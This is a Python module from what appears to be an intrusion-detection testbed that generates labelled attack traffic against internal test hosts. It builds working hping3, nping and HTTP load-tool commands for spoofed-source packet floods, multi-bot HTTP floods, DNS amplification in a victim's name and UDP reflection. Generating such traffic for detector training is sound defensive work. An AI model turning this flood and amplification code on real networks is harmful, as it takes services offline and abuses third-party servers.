"""Floods: one sender or many bots that a server has no answer for, and answers that nobody asked for.

Every flood is counted: a few hundred to a few thousand packets or requests, then it is over.
"""

import struct

from training.testbed.acts import Kind, Running, Stage
from training.testbed.attackers.drawing import about, address, bracketed, one

HPING = {"syn": ["-S"], "ack": ["-A"], "fin": ["-F"], "rst": ["-R"], "udp": ["--udp"], "icmp": ["--icmp"]}
NPING = {
    "syn": ["--tcp", "--flags", "syn"],
    "ack": ["--tcp", "--flags", "ack"],
    "fin": ["--tcp", "--flags", "fin"],
    "rst": ["--tcp", "--flags", "rst"],
    "udp": ["--udp"],
    "icmp": ["--icmp"],
}
REFLECTORS = {53: 900, 123: 440, 389: 1300, 1900: 320, 11211: 1400}
"""UDP services whose answers are made to hit somebody else: port, median size of an answer (bytes)."""
AGENTS = ("Mozilla/5.0 (X11; Linux x86_64)", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "okhttp/4.9", "-")


def hping(stage: Stage, source: str, place: str, count: int, rate: int) -> list[str]:
    """Return hping3's words for a flood with these settings; `source` empty: the host's own address."""
    protocol = one(stage, "protocol")
    words = ["hping3", "-q", "-n", *HPING[protocol], "-c", str(count), "-i", f"u{1_000_000 // rate}"]
    words += ["-d", str(about(stage, "payload"))] if one(stage, "payload") else []
    if protocol != "icmp":
        words += ["-p", str(one(stage, "port")), "-s", str(stage.rng.randint(1_024, 60_000))]
        words += ["-k"] if stage.settings["keep_port"] else []
        words += ["-w", str(stage.rng.choice((64, 512, 1024, 8192, 65535)))] if protocol != "udp" else []
    if source == "random":
        words.append("--rand-source")
    elif source:
        words += ["-a", source]
    return [*words, place]


def nping(stage: Stage, place: str, count: int, rate: int) -> list[str]:
    """Return nping's words for a flood from the host's own address."""
    protocol = one(stage, "protocol")
    words = ["nping", "-q", "-H", "-N", *NPING[protocol], "-c", str(count), "--rate", str(rate)]
    words += ["--data-length", str(about(stage, "payload"))] if one(stage, "payload") else []
    if protocol != "icmp":
        words += ["-p", str(one(stage, "port"))]
    return [*words, place]


def flood(stage: Stage) -> None:
    """Send many packets of one sort to one host, from one's own or from invented addresses."""
    place, count, rate = address(stage), about(stage, "packets"), about(stage, "rate")
    if one(stage, "tool") == "nping":
        words = nping(stage, place, count, rate)
    else:
        source = one(stage, "source")
        words = hping(stage, "" if source == "own" else source, place, count, rate)
    stage.run(*words, limit_s=60, ok=None)


def bots(stage: Stage) -> list[str]:
    """Return the addresses of the bots that take part, in random order."""
    own = list(stage.host.all_v4)
    stage.rng.shuffle(own)
    return own[: about(stage, "bots", 0.1)]


def finish(started: list[Running]) -> None:
    """Wait until all bots are done."""
    for running in started:
        running.wait(60)


def bot_flood(stage: Stage) -> None:
    """Send packets of one sort to one host, from every bot at its own rate."""
    place, started = address(stage), []
    for source in bots(stage):
        words = hping(stage, source, place, about(stage, "packets"), about(stage, "rate"))
        started.append(stage.start(*words, limit_s=60))
        stage.pause(stage.rng.expovariate(5))
    finish(started)


def requests(stage: Stage, tool: str, source: str = "") -> list[str]:
    """Return the words of an HTTP load tool, which counts its requests; `source` binds it (ab, curl)."""
    count, clients = about(stage, "requests"), about(stage, "clients")
    path = str(one(stage, "path"))
    url = f"{one(stage, 'scheme')}://{bracketed(address(stage))}{path}"
    # Another answer each time, so that no cache in between helps: the nonce is what a flood adds.
    url += f"{'&' if '?' in path else '?'}{stage.rng.getrandbits(32):x}" if one(stage, "nonce") else ""
    agent = stage.rng.choice(AGENTS)
    if tool == "ab":
        words = ["ab", "-q", "-r", "-n", str(count), "-c", str(min(clients, count)), "-s", "10"]
        words += ["-H", f"User-Agent: {agent}"]
        return [*words, *(["-k"] if stage.settings["keep_alive"] else []), *(["-B", source] if source else []), url]
    if tool == "siege":
        resource = stage.folder / "siegerc"
        alive = "keep-alive" if stage.settings["keep_alive"] else "close"
        resource.write_text(
            f"limit = 100\nconnection = {alive}\nlogging = false\nparser = false\nshow-logfile = false\n"
        )
        each = max(1, count // clients)
        return ["siege", "-q", "-b", "-R", str(resource), "-c", str(clients), "-r", str(each), "-A", agent, url]
    if tool == "h2load":
        words = ["h2load", "-n", str(count), "-c", str(min(clients, count)), "-m", str(stage.rng.randint(1, 20))]
        return [*words, "-T", "10", f"--header=user-agent: {agent}", url]
    config = stage.folder / f"requests-{source or 'own'}"
    lines = [f'url = "{url}&{number}"\noutput = "/dev/null"' for number in range(count)]
    config.write_text("\n".join(lines) + "\n")
    words = ["curl", "-s", "-k", "-g", "--max-time", "20", "-A", agent, "--parallel", "--parallel-max", str(clients)]
    words += ["--parallel-immediate", "-K", str(config)]
    words += [] if stage.settings["keep_alive"] else ["--http1.1", "-H", "Connection: close"]
    return [*words, *(["--interface", source] if source else [])]


def http_flood(stage: Stage) -> None:
    """Ask a web server for pages faster than it makes them."""
    stage.run(*requests(stage, one(stage, "tool")), limit_s=60, ok=None)


def bot_http(stage: Stage) -> None:
    """Ask a web server for pages from every bot at once."""
    tool, started = one(stage, "tool"), []
    for source in bots(stage):
        started.append(stage.start(*requests(stage, tool, source), limit_s=40))
        stage.pause(stage.rng.expovariate(4))
    finish(started)


def question(name: str, kind: int) -> bytes:
    """Return a DNS query of one question that allows large answers (EDNS, 4096 bytes; RFC 6891)."""
    labels = b"".join(bytes((len(part),)) + part.encode() for part in name.split("."))
    head = struct.pack("!6H", 0x2A11, 0x0100, 1, 0, 0, 1)
    return head + labels + b"\0" + struct.pack("!2H", kind, 1) + b"\0" + struct.pack("!2HIH", 41, 4096, 0, 0)


def amplify(stage: Stage) -> None:
    """Ask a name server in the victim's name; its answers are what hits the victim."""
    victim = stage.world.host(one(stage, "victim")).v4
    query = question(one(stage, "asked"), 255)
    count, rate = about(stage, "packets"), about(stage, "rate")
    if one(stage, "tool") == "nping":
        words = ["nping", "-q", "-H", "-N", "--udp", "-S", victim, "-p", "53", "--data", query.hex()]
        words += ["-g", str(stage.rng.randint(1_024, 60_000)), "-c", str(count), "--rate", str(rate)]
    else:
        (stage.folder / "query").write_bytes(query)
        words = ["hping3", "-q", "-n", "--udp", "-a", victim, "-s", str(stage.rng.randint(1_024, 60_000)), "-p", "53"]
        words += ["-k"] if stage.settings["keep_port"] else []
        words += ["-E", str(stage.folder / "query"), "-d", str(len(query))]
        words += ["-c", str(count), "-i", f"u{1_000_000 // rate}"]
    stage.run(*words, address(stage), limit_s=60, ok=None)


def reflect(stage: Stage) -> None:
    """Send what looks like answers of open UDP services, from every bot to ports of the victim."""
    place, started = address(stage), []
    service = int(one(stage, "services"))
    for source in bots(stage):
        size = min(1_400, round(stage.rng.lognormvariate(0, 0.25) * REFLECTORS[service]))
        words = ["hping3", "-q", "-n", "--udp", "-a", source, "-s", str(service), "-k", "-d", str(size)]
        words += ["-p", f"{'++' if stage.settings['many_ports'] else ''}{stage.rng.randint(1_024, 60_000)}"]
        words += ["-c", str(about(stage, "packets")), "-i", f"u{1_000_000 // about(stage, 'rate')}", place]
        started.append(stage.start(*words, limit_s=60))
        stage.pause(stage.rng.expovariate(6))
    finish(started)


PACKETS = {
    "tool": "hping3",
    "protocol": "syn",  # or ack, fin, rst, udp, icmp
    "target": "web",
    "port": [80, 443],
    "packets": 400,  # median; without keep_port each is a flow of its own
    "rate": 500,  # packets per second
    "payload": 0,  # median, bytes
    "keep_port": False,  # one source port for all packets
}
REQUESTS = {
    "target": "web",
    "scheme": "http",
    "path": ["/", "/search?q=report"],
    "nonce": True,  # every request (ab, siege: every act) with another query
    "keep_alive": False,  # many requests on one connection
}
KINDS = (
    Kind(
        name="flood",
        label="dos",
        play=flood,
        needs={"hping3": "hping3", "nping": "nmap"},
        lasts_s=2,
        limit_s=70,
        # tool: hping3 or nping; source: own, random (hping3 only) or an address to send in the name of.
        settings={**PACKETS, "source": "own"},
    ),
    Kind(
        name="http-flood",
        label="dos",
        play=http_flood,
        needs={"ab": "apache2-utils", "siege": "siege", "h2load": "nghttp2-client", "curl": "curl"},
        services=("web",),
        lasts_s=4,
        limit_s=70,
        settings={
            **REQUESTS,
            "tool": "ab",  # or siege, curl, h2load (few connections; with scheme https HTTP/2)
            "requests": 200,  # median
            "clients": 10,  # connections at a time
        },
    ),
    Kind(
        name="bot-flood",
        label="ddos",
        play=bot_flood,
        needs={"hping3": "hping3"},
        lasts_s=4,
        limit_s=90,
        settings={**PACKETS, "bots": 9, "packets": 40, "rate": 60},
    ),
    Kind(
        name="bot-http",
        label="ddos",
        play=bot_http,
        needs={"ab": "apache2-utils", "curl": "curl"},
        services=("web",),
        lasts_s=5,
        limit_s=90,
        settings={**REQUESTS, "tool": ["ab", "curl"], "bots": 9, "requests": 25, "clients": 3},
    ),
    Kind(
        name="amplification",
        label="ddos",
        play=amplify,
        needs={"hping3": "hping3", "nping": "nmap"},
        services=("dns",),
        lasts_s=2,
        limit_s=70,
        settings={
            "tool": ["hping3", "nping"],
            "target": "infra",
            "victim": ["web", "store", "desk"],
            "asked": ["home.test", "www.home.test"],
            "packets": 80,
            "rate": 150,
            "keep_port": False,
        },
    ),
    Kind(
        name="reflection",
        label="ddos",
        play=reflect,
        needs={"hping3": "hping3"},
        lasts_s=3,
        limit_s=90,
        settings={
            "target": ["web", "store"],
            "bots": 9,
            "packets": 40,
            "rate": 80,
            "services": [53, 123, 389, 1900, 11211],  # source ports, one for all bots of an act
            "many_ports": True,  # each packet to another port of the victim
        },
    ),
)
